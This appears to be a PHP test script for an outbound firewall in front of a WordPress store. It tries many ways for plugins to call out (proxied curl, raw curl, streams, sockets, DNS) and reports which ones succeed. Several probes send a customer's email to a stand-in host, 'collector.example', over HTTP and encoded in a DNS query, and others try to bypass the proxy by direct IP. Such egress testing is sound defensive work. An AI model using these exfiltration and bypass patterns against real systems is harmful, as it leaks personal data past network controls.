<?php
// A store's plugins, each with its own way to call out. Prints one JSON object
// per attempt. Started as the web user, behind the store's firewall.
error_reporting( 0 );
ini_set( 'default_socket_timeout', '5' );

const CHAT = '{"model":"gpt-4o-mini","max_tokens":8,"messages":[{"role":"user","content":"I am Anna Muster. Hello"}]}';
const CLAUDE = '{"model":"claude-sonnet-4-5","max_tokens":8,"messages":[{"role":"user","content":"Hello"}]}';

$proxy = getenv( 'STORE_PROXY' ); // host:port
$ca    = getenv( 'STORE_CA' );

function tell( $name, $answered, $detail ) {
	echo json_encode( array( 'name' => $name, 'answered' => (bool) $answered, 'detail' => substr( (string) $detail, 0, 300 ) ) ), "\n";
}

function curl( $name, $url, $body, $headers, $options ) {
	$c = curl_init( $url );
	curl_setopt_array( $c, $options + array(
		CURLOPT_RETURNTRANSFER => true,
		CURLOPT_TIMEOUT        => 60,
		CURLOPT_CONNECTTIMEOUT => 3,
		CURLOPT_USERAGENT      => 'WordPress/7.1; https://shop.example',
		CURLOPT_HTTPHEADER     => $headers,
		CURLOPT_PROXYHEADER    => array( 'Ringfence-Caller: ' . $name ),
		CURLOPT_HEADEROPT      => CURLHEADER_SEPARATE,
	) );
	if ( null !== $body ) {
		curl_setopt( $c, CURLOPT_POSTFIELDS, $body );
	}
	$answer = curl_exec( $c );
	tell( $name, 200 === curl_getinfo( $c, CURLINFO_HTTP_CODE ), $answer ? $answer : curl_error( $c ) );
}

$openai    = array( 'Authorization: Bearer sk-proj-the-vendors-key', 'Content-Type: application/json' );
$anthropic = array( 'x-api-key: sk-ant-the-vendors-key', 'anthropic-version: 2023-06-01', 'Content-Type: application/json' );

// What WP_Http's curl transport sets for WP_PROXY_HOST and the filter sslcertificates.
$wordpress = array( CURLOPT_PROXYTYPE => CURLPROXY_HTTP, CURLOPT_PROXY => explode( ':', $proxy )[0], CURLOPT_PROXYPORT => (int) explode( ':', $proxy )[1], CURLOPT_CAINFO => $ca, CURLOPT_HTTP_VERSION => CURL_HTTP_VERSION_1_1 );
curl( 'wp-openai', 'https://api.openai.com/v1/chat/completions', CHAT, $openai, $wordpress );
curl( 'wp-anthropic', 'https://api.anthropic.com/v1/messages', CLAUDE, $anthropic, $wordpress );
curl( 'wp-partner', 'http://pay.example/', null, array(), $wordpress );
curl( 'wp-collector', 'https://collector.example/?mail=anna@example.org', 'mail=anna@example.org', array(), $wordpress );
curl( 'wp-inside', 'https://inside.example/', null, array(), $wordpress );

// Raw curl, with the environment that a pool sets, and without.
curl( 'curl-no-proxy', 'https://api.openai.com/v1/chat/completions', CHAT, $openai, array( CURLOPT_PROXY => '' ) );
curl( 'curl-address', 'https://198.41.0.66/', 'x', array(), array( CURLOPT_PROXY => '' ) );
putenv( "https_proxy=http://$proxy" );
curl( 'curl-env', 'https://api.openai.com/v1/chat/completions', CHAT, $openai, array( CURLOPT_CAINFO => $ca ) );

// Streams.
tell( 'stream-direct', file_get_contents( 'http://collector.example/' ), 'no proxy' );
$context = stream_context_create( array(
	'http' => array( 'method' => 'POST', 'content' => CHAT, 'proxy' => "tcp://$proxy", 'request_fulluri' => true, 'ignore_errors' => true, 'timeout' => 60,
		'header' => implode( "\r\n", $openai ) ),
	'ssl'  => array( 'cafile' => $ca ),
) );
$answer = file_get_contents( 'https://api.openai.com/v1/chat/completions', false, $context );
tell( 'stream-proxy', false !== strpos( (string) $answer, '"choices"' ), $answer );

// Sockets.
foreach ( array( 'tcp://198.41.0.66:443', 'tcp://198.41.0.4:80', 'tcp://10.9.9.9:80' ) as $address ) {
	tell( "socket $address", stream_socket_client( $address, $no, $why, 2 ), $why );
}
$udp = stream_socket_client( 'udp://198.41.0.53:53', $no, $why, 2 );
fwrite( $udp, "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04anna\x09collector\x07example\x00\x00\x01\x00\x01" );
stream_set_timeout( $udp, 1 );
tell( 'dns', fread( $udp, 512 ), 'udp' );
